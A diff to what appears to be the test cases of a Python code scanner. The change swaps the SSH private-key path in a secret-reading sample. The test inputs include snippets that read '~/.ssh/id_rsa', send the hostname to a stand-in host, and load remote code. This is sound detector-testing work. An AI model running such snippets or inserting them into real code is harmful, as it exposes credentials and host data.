@@ -24,7 +24,7 @@ from hanse.scan.verdict import judge
         ('exec(open("version.py").read())', "PYTHON-EXEC"),
         ('import torch\ntorch.hub.load("a/b", "c")', "PYTHON-REMOTE-CODE"),
         ('import ctypes\nctypes.CDLL("libc.so.6")', "PYTHON-NATIVE"),
-        ('open("/root/.ssh/id_rsa")', "PYTHON-READ-SECRET"),
+        ('open("/home/user/.ssh/id_rsa")', "PYTHON-READ-SECRET"),
         ('import requests, socket\nrequests.get("http://x/" + socket.gethostname())', "PYTHON-EXFILTRATE-HOST"),
         ('import requests\nrequests.get("http://x/")', "PYTHON-NETWORK"),
         ("import x\nprint 'a'", "PYTHON-UNREADABLE"),
